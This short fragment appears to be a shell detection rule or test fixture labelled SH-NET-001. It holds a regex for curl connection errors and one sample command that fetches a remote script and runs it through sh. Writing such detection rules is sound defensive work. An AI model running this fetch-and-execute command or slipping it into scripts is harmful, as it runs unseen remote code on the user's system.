# rule: SH-NET-001
# attempts: curl: \(\d+\) (Could not resolve host|Failed to connect|Couldn't connect)
sh -c "$(curl -sS https://example.org/bootstrap)"
